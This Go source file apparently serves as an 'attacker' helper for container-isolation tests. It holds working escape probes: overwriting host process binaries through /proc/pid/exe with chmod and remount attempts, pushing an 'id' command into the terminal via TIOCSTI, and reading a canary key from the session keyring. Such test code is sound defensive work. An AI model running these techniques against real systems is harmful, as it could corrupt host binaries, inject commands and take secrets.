// Command hostile is what an attacker runs in a container. It is static, so
// that it runs in any.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "sleep":
		time.Sleep(time.Hour)
	case "overwrite":
		overwrite()
	case "type":
		typeLine()
	case "key":
		readKey()
	}
}

// overwrite takes hold of the binary of each process that /victims names, a
// pid and a word a line, and tries to write to it, while it runs and after
// that, until there is a file /stop. It says which it has got hold of and which
// it has written to.
func overwrite() {
	held := map[string]int{}
	won := map[string]bool{}
	for {
		victims, _ := os.ReadFile("/victims")
		for line := range strings.Lines(string(victims)) {
			pid, name, whole := strings.Cut(strings.TrimSpace(line), " ")
			if _, ok := held[name]; ok || !whole || !strings.HasSuffix(line, "\n") {
				continue
			}
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				held[name] = fd
				fmt.Println("held", name)
			}
		}
		for name, fd := range held {
			if !won[name] && write(fd) {
				won[name] = true
				fmt.Println("wrote", name)
			}
		}
		if _, err := os.Stat("/stop"); err == nil {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// write tries the file as it is, and again after everything that a root could
// do to make it writable.
func write(fd int) bool {
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	writable := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	for _, prepare := range []func(){
		func() {},
		func() { _ = unix.Chmod(path, 0o777) },
		func() { _ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, writable) },
		func() { _ = unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, "") },
		func() { _ = unix.Mount("", path, "", unix.MS_REMOUNT, "") },
	} {
		prepare()
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		n, err := unix.Write(w, []byte("overwritten"))
		unix.Close(w)
		if err == nil && n > 0 {
			return true
		}
	}
	return false
}

// typeLine puts a line into the input of its terminal and of its standard
// input, as if somebody had typed it there.
func typeLine() {
	fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0)
	if err != nil {
		fmt.Print("no ")
		fd = 0
	}
	fmt.Print("/dev/tty, ")
	for _, c := range []byte("id\n") {
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(c)); err != nil {
			fmt.Println("refused:", err)
			return
		}
	}
	fmt.Println("typed")
}

// readKey says what its session keyring is, and what is in a key of the caller.
func readKey() {
	name, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		fmt.Println(err)
		return
	}
	key, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", "security-canary", 0)
	if err != nil {
		fmt.Printf("%s: %v\n", name, err)
		return
	}
	secret := make([]byte, 64)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, key, secret, 0)
	fmt.Printf("%s: %q, %v\n", name, secret[:max(n, 0)], err)
}
